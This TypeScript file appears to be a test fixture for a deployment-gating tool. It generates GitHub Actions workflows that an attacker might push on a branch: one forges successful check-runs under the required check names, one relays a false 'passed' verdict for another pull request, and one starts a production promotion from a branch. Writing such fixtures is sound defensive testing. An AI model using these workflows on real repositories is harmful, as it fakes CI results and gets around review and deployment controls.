import { checkNames } from '../../company.ts'
import type { Files } from '../../handmade.ts'

/** Workflow files as an attacker writes them on a branch of theirs. */

/** Sends a success under each of our names, as the job of the required name would by itself on GitHub. */
const forging = [
  "const names = process.env.NAMES.split('|')",
  'const url = `${process.env.GITHUB_API_URL}/repos/${process.env.GITHUB_REPOSITORY}/check-runs`',
  "const headers = { authorization: `Bearer ${process.env.TOKEN}`, 'content-type': 'application/json' }",
  "const forged = { head_sha: process.env.HEAD, status: 'completed', conclusion: 'success' }",
  'for (const name of names) {',
  "  const body = JSON.stringify({ ...forged, name, output: { title: 'Passed', summary: 'All is well.' } })",
  "  const { status } = await fetch(url, { method: 'POST', headers, body })",
  '  if (status !== 201) throw new Error(`GitHub answered ${status}`)',
  '}',
]

const indented = (lines: readonly string[], by: number): readonly string[] =>
  lines.map((line) => `${' '.repeat(by)}${line}`)

/** A job of the required name on the proposal's own file, whose token writes checks. */
const spoofing = [
  'name: policy test',
  'on: {pull_request: {types: [opened]}}',
  'permissions: {}',
  'jobs:',
  '  play:',
  `    name: ${checkNames[1]}`,
  '    runs-on: ubuntu-latest',
  '    permissions: {checks: write}',
  '    steps:',
  '      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0',
  '        with: {node-version: 24}',
  '      - shell: bash',
  '        env:',
  '          TOKEN: ${{ github.token }}',
  '          HEAD: ${{ github.event.pull_request.head.sha }}',
  `          NAMES: '${checkNames.join('|')}'`,
  '        run: |',
  "          cat > forge.mjs <<'END'",
  ...indented(forging, 10),
  '          END',
  '          node forge.mjs',
]

/** A relay that hands over what the privileged run should believe: another request, and its verdict. */
const talkative = (other: number): readonly string[] => [
  'name: review relay',
  `run-name: 'pull request ${other}: success'`,
  'on: {pull_request_review: {types: [submitted]}}',
  'permissions: {}',
  'jobs:',
  '  relay:',
  '    name: relay',
  '    runs-on: ubuntu-latest',
  `    outputs: {pull-request: '${other}', verdict: passed}`,
  '    steps:',
  '      - shell: bash',
  `        run: mkdir handed; echo ${other} > handed/pull-request; echo passed > handed/verdict`,
  '      - uses: actions/upload-artifact@b7c566a772e6b6bfb58ed0dc250532a479d7789f # v6.0.0',
  '        with: {name: facts, path: handed}',
]

/** The promoter as anybody can start it on a branch. */
const chosen = [
  'name: promote',
  'on: {workflow_dispatch: {}}',
  'permissions: {}',
  'jobs:',
  '  production:',
  '    name: promote to production',
  '    runs-on: ubuntu-latest',
  '    permissions: {contents: write, pull-requests: write, checks: read, deployments: write, issues: write}',
  '    steps:',
  '      - uses: countersign/countersign/actions/promote@v0.1.0',
  '        with: {environment: production, app-slug: countersign-acme}',
]

const file = (lines: readonly string[]): string => `${lines.join('\n')}\n`

/** The three files of the example that a branch would rewrite. */
export const rewritten = (other: number): Files => ({
  '.github/workflows/policy-test.yml': file(spoofing),
  '.github/workflows/review-relay.yml': file(talkative(other)),
  '.github/workflows/promote.yml': file(chosen),
})
